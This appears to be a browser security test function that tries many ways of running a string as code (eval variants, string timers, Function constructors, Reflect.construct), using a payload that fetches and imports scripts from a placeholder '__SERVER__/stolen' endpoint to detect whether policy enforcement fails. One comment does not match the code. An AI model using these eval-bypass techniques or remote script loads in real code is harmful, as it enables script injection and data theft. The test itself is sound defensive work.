// Makes code from text: eval, Function and its relatives, timers with a string.
// says: Keeps 10 in flight: a window of 10.
function attempt() {
  const source = "fetch('__SERVER__/stolen?eval'); importScripts('__SERVER__/stolen?eval-import')";
  const constructors = [function () {}, async () => {}, function* () {}, async function* () {}];
  const ways = [
    () => eval(source),
    () => (0, eval)(source),
    () => self["ev" + "al"](source),
    () => setTimeout(source, 0),
    () => setInterval(source, 1000),
    () => new Function(source)(),
    ...constructors.map((one) => () => one.constructor(source)()),
    () => Reflect.construct(Function, [source])(),
    () => [].map.constructor("source", source)(source),
  ];
  for (const way of ways) {
    try {
      way();
    } catch {
      // refused
    }
  }
  return new Promise((end) => setTimeout(end, 100));
}
